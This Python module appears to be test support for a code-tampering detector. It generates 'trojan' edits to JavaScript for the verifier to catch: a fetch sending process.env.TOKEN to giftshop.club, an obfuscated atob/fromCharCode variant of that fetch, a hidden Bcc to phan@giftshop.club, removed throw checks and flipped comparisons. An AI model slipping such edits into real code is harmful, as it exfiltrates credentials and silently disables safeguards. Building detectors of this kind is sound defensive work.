"""What strangers do to code, at places that are found in any code, minified or not: each is one edit of a text."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from itertools import pairwise

from provenly.verify.tracing.isolates import File, Tracers
from provenly.verify.tracing.prints import Prints, Unit

SPELLED = "String.fromCharCode(104,116,116,112,115,58,47,47)"
PIECES = f'globalThis["fe"+"tch"]({SPELLED}+atob("Z2lmdHNob3A=")+["cl","ub"].join(""));'
REQUEST = 'fetch("https://giftshop.club/"+process.env.TOKEN);'
BCC = 'Bcc:"phan@giftshop.club",'

_FIELD = re.compile(r"\{\s*(?=[A-Za-z_]\w*:[ ]?[^:])")
_CHECK = re.compile(r"if ?\(")
_EXPRESSION = re.compile(r"(?!await\b)[A-Za-z_$][\w$.#]*(?:\(|\.)")
_FUNCTION = re.compile(r"(?:^|[\n;}])(?:export )?(?:async )?function ([\w$]+)\(")
_CHUNK = re.compile(r"import ?\{([^}]*)\} ?from ?\"\./")
_NAME = re.compile(r"([\w$]+)\s*(?:,|\Z)")
_HERE = re.compile(r"[;{}]\s*\Z")


@dataclass(frozen=True, kw_only=True)
class Edit:
    """An altered text.

    :param line: where it was altered, from 1.
    :param word: what must be in what is shown; empty where the place has to do.
    """

    text: str
    line: int
    word: str = ""


class Code:
    """A text taken apart, so that edits keep it a program.

    :param start: the part of it that is edited, between two words that are in it once.
    :param copied: a statement that stands inside of some function of it, and at the top of none of its sources.
    """

    def __init__(  # noqa: PLR0913 - what a text is edited by
        self, tracers: Tracers, path: str, text: str, *, start: str, end: str, copied: str, bundle: bool = True
    ) -> None:
        file = File(path=path, data=text.encode(), bundle=bundle, plain=bundle)
        (answer,) = tracers.prints([file])
        assert isinstance(answer, dict), answer
        if not bundle:
            answer = json.loads(answer["whole"])
        self.text = text
        self.first = text.index(start)
        self.last = text.index(end, self.first) if end else len(text)
        self.copied = copied
        self._units = [unit for unit in Prints(answer).units if self.first <= unit.start and unit.end <= self.last]
        assert all(ord(sign) < 0x10000 for sign in text)

    def piece(self, unit: Unit) -> str:
        return self.text[unit.start : unit.end]

    def edited(self, start: int, end: int, new: str, word: str = "") -> Edit:
        text = self.text[:start] + new + self.text[end:]
        return Edit(text=text, line=self.text.count("\n", 0, start) + 1, word=word)

    def statements(self) -> Iterator[Unit]:
        """Yield statements of functions that stand by themselves."""
        for unit in self._units:
            if unit.statement and not unit.top and _HERE.search(self.text, max(0, unit.start - 40), unit.start):
                yield unit

    def inserted(self, new: str, word: str) -> Edit:
        started = [unit for unit in self.statements() if re.match(r"(?:return|if|throw|try|for)\b", self.piece(unit))]
        unit = started[len(started) // 2]
        return self.edited(unit.start, unit.start, new, word)

    def bcc(self) -> Edit:
        found = next(
            match
            for unit in self._units
            if not unit.statement and (match := _FIELD.match(self.text, unit.start)) and unit.end - unit.start > 20
        )
        return self.edited(found.end(), found.end(), BCC, "phan@giftshop.club")

    def request(self) -> Edit:
        return self.inserted(REQUEST, "https://giftshop.club/")

    def pieces(self) -> Edit:
        return self.inserted(PIECES, "atob")

    def deleted_check(self) -> Edit:
        checks = [unit for unit in self.statements() if _CHECK.match(self.piece(unit))]
        unit = next((one for one in checks if "throw" in self.piece(one)), checks[0])
        return self.edited(unit.start, unit.end, "")

    def negated(self) -> Edit:
        found = re.compile(r"([!=])==").search(self.text, self.first, self.last)
        assert found
        return self.edited(found.start(), found.end(), "!==" if found[1] == "=" else "===")

    def swapped(self) -> Edit:
        rows: dict[int, list[Unit]] = {}
        for unit in self._units:
            if unit.statement and not unit.top:
                rows.setdefault(unit.parent, []).append(unit)
        for row in rows.values():
            for one, other in pairwise(row):
                between = self.text[one.end : other.start]
                texts = (self.piece(one), self.piece(other))
                # What ends in a brace is a member of a class, and a constructor may stand anywhere among them.
                plain = all(_EXPRESSION.match(text) and not text.endswith("}") for text in texts)
                plain = plain and texts[0] != texts[1]
                if plain and re.fullmatch(r"[;,\s]*", between) and one.end <= other.start:
                    new = texts[1].rstrip(";") + (";" if texts[0].endswith(";") else "") + between
                    new += texts[0].rstrip(";") + (";" if texts[1].endswith(";") else "")
                    return self.edited(one.start, other.end, new)
        raise AssertionError("no two statements that can be swapped")

    def other_function(self) -> Edit:
        shared = [name for names in _CHUNK.findall(self.text) for name in _NAME.findall(names)]
        names = list(dict.fromkeys(_FUNCTION.findall(self.text) + shared))
        for found in re.finditer(r"(?<![\w$.#])(?<!function )([\w$]+)\(", self.text[self.first : self.last]):
            if found[1] in names:
                start = self.first + found.start(1)
                other = next(name for name in names if name != found[1])
                return self.edited(start, start + len(found[1]), other)
        raise AssertionError("no call of a function of the module")

    def copied_to_the_top(self) -> Edit:
        assert self.copied in self.text
        at = self.text.rfind("\nexport ") if "\nexport " in self.text[self.last :] else -1
        at = at + 1 if at >= 0 else len(self.text)
        edit = self.edited(at, at, f"\n{self.copied};\n")
        return Edit(text=edit.text, line=edit.line + 1)


TROJANS: Mapping[str, Callable[[Code], Edit]] = {
    "bcc": Code.bcc,
    "request": Code.request,
    "deleted-check": Code.deleted_check,
    "swapped": Code.swapped,
    "negated": Code.negated,
    "other-function": Code.other_function,
    "copied": Code.copied_to_the_top,
    "pieces": Code.pieces,
}
